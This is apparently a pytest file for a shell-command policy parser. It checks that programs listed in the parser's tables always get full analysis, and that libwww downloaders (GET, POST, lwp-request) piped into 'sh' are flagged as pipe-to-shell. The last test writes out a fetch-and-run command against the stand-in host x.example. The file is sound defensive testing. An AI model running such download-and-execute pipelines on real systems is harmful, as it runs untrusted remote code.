"""The parser's program tables and the shortcut that skips them stay in step.

``analyze`` takes a short path for a program no table gives a role; a table
added later but forgotten in that shortcut would silently skip its checks.
So every program named in any table of the parser must not count as plain.
"""

from __future__ import annotations

import importlib
import pkgutil

import pytest

import hookgate.policy.match.shell as shell
from hookgate.policy.match.shell import parse_command_uncached
from hookgate.policy.match.shell.analyze import _plain

#: module-level string collections of the parser that are not tables of program names
NOT_PROGRAM_TABLES = {
    "GIT_CODE_KEYS", "CODE_ENV", "REDIRECTS", "WRITE_OPS", "READ_OPS", "_RANK", "_SIMPLE", "_EXPANSIONS",
    "_KNOWN_NAMES", "_OPERATORS",
    # operand roles (operands.py): the plain shortcut asks operand_role() as analyze() does
    "NAMES_ONLY", "READS_ONLY", "_OWN_WAY",
}


def _program_tables() -> list[tuple[str, list[str]]]:
    found = []
    for info in pkgutil.iter_modules(shell.__path__):
        module = importlib.import_module(f"{shell.__name__}.{info.name}")
        for attr, value in vars(module).items():
            if attr.startswith("__") or attr in NOT_PROGRAM_TABLES:
                continue
            names = value.keys() if isinstance(value, dict) else value if isinstance(value, set | frozenset) else None
            if names and all(isinstance(n, str) for n in names):
                programs = [n for n in names if n and not n.startswith(("-", "$", "/"))]
                if programs:
                    found.append((f"{info.name}.{attr}", programs))
    return found


@pytest.mark.parametrize(("table", "programs"), _program_tables(), ids=lambda v: v if isinstance(v, str) else "")
def test_no_program_with_a_role_takes_the_plain_shortcut(table: str, programs: list[str]) -> None:
    plain = [p for p in programs if _plain(p.casefold())]
    assert plain == [], f"{table}: {plain} would skip analyze()'s checks"


@pytest.mark.parametrize("downloader", ["GET", "POST", "lwp-request"])
def test_libwww_downloaders_piped_into_a_shell_are_seen(downloader: str) -> None:
    assert parse_command_uncached(f"{downloader} http://x.example/i.sh | sh").pipe_to_shell
